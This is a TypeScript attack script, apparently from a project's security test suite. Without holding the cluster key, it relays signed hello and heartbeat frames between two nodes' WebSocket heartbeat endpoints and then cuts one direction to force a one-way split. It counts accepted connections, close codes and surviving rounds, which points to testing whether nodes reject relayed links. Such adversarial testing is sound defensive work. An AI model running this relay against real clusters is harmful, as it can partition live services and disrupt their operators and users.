// The relay attack on the heartbeat mesh, by someone without the cluster key: two plain
// WebSocket clients, one to node A's heartbeat endpoint and one to node B's, each binary
// message from one forwarded to the other. Both nodes then see a connection whose hello and
// heartbeats are the other node's genuine, signed frames. If either node adopts such a
// connection as its link, the attacker owns that link: after `--forward-ms` it stops
// forwarding A → B (B stops hearing A) while B → A still flows, a one-way split.
//
// Rounds repeat for `--duration-ms`, one pair of connections at a time, so a node that
// dropped the relayed connection is offered a fresh one.
//
//   node heartbeat-relay.js --a ws://A:7410/vipd/heartbeat --b ws://B:7410/vipd/heartbeat
//        [--duration-ms 6000] [--round-ms 2000] [--forward-ms 400]
import { WebSocket, type RawData } from 'ws';
import { AttackFlags, hardDeadline, report, sleep } from './attack-io.js';

const flags = new AttackFlags();
const urlA = flags.text('a');
const urlB = flags.text('b');
const durationMs = flags.count('duration-ms', 60_000, 6_000);
const roundMs = flags.count('round-ms', 30_000, 2_000);
const forwardMs = flags.count('forward-ms', 30_000, 400);
hardDeadline(durationMs + 10_000);

const totals = {
  rounds: 0,
  /** Connections the nodes accepted (WebSocket open): the attack reached them. */
  connectionsOpened: 0,
  forwardedAtoB: 0,
  forwardedBtoA: 0,
  droppedAtoB: 0,
  /** Close codes the nodes sent, by side: 4001 means a node dropped it as a duplicate. */
  closes: {} as Record<string, number>,
  /** Rounds in which both connections were still open when the round ended. */
  survivedRounds: 0,
};

function open(url: string): WebSocket {
  const ws = new WebSocket(url, { perMessageDeflate: false, handshakeTimeout: 2_000 });
  ws.on('error', () => undefined);
  return ws;
}

async function round(): Promise<void> {
  const a = open(urlA);
  const b = open(urlB);
  const startedAt = performance.now();
  let forwardAtoB = true;
  // Each node greets at once; the other connection may still be opening. A message for a
  // connection not yet open waits for it, so a hello is never lost to the race (a lost
  // hello makes the node reject the heartbeat that follows: "heartbeat before hello").
  const waiting = new Map<WebSocket, Buffer[]>([
    [a, []],
    [b, []],
  ]);
  const forward = (to: WebSocket, data: RawData, isBinary: boolean): boolean => {
    if (!isBinary) return false;
    if (to.readyState === WebSocket.CONNECTING) {
      waiting.get(to)?.push(data as Buffer);
      return true;
    }
    if (to.readyState !== WebSocket.OPEN) return false;
    to.send(data as Buffer, { binary: true });
    return true;
  };
  for (const ws of [a, b]) {
    ws.once('open', () => {
      totals.connectionsOpened += 1;
      for (const data of waiting.get(ws) ?? []) ws.send(data, { binary: true });
      waiting.set(ws, []);
    });
  }
  a.on('message', (data, isBinary) => {
    if (!forwardAtoB) {
      totals.droppedAtoB += 1;
      return;
    }
    if (forward(b, data, isBinary)) totals.forwardedAtoB += 1;
  });
  b.on('message', (data, isBinary) => {
    if (forward(a, data, isBinary)) totals.forwardedBtoA += 1;
  });
  for (const [side, ws] of [
    ['a', a],
    ['b', b],
  ] as const) {
    ws.on('close', (code) => {
      const key = `${side}:${code}`;
      totals.closes[key] = (totals.closes[key] ?? 0) + 1;
    });
  }
  await sleep(forwardMs);
  forwardAtoB = false;
  await sleep(Math.max(0, roundMs - (performance.now() - startedAt)));
  if (a.readyState === WebSocket.OPEN && b.readyState === WebSocket.OPEN) {
    totals.survivedRounds += 1;
  }
  a.terminate();
  b.terminate();
  totals.rounds += 1;
}

const endAt = performance.now() + durationMs;
report({ t: 'ready' });
while (performance.now() + roundMs <= endAt) await round();
report({ t: 'result', ...totals });
process.exit(0);
